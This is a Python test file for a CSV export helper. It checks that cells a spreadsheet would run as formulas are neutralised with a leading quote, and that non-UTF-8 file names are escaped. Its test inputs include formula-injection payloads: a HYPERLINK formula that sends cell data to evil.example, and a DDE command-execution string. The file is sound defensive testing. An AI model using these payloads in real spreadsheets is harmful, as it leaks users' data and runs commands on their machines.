"""CSV cells that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
import os

import pytest

from objlen.spreadsheet import csv_text, spreadsheet_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_starts_get_a_single_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["bolt.jpg", "", " =not at the start", 12, -1.5, 0.0, True])
def test_other_values_are_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_none_is_an_empty_cell_and_the_table_reads_back():
    text = csv_text(("name", "width"), [["=1+1", -3.5], [None, 2], ['a,"b"', 1]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "width"], ["'=1+1", "-3.5"], ["", "2"], ['a,"b"', "1"]]


def test_a_file_name_that_is_not_utf8_is_written_with_its_bytes_escaped():
    # os.listdir gives the Latin-1 name b"caf\xe9.jpg" as "caf\udce9.jpg", which
    # UTF-8 cannot encode: the table failed to be written at all.
    name = os.fsdecode(b"caf\xe9.jpg")
    text = csv_text(["name"], [[name], ["=" + name]])
    assert text.encode("utf-8") == b"name\ncaf\\xe9.jpg\n'=caf\\xe9.jpg\n"
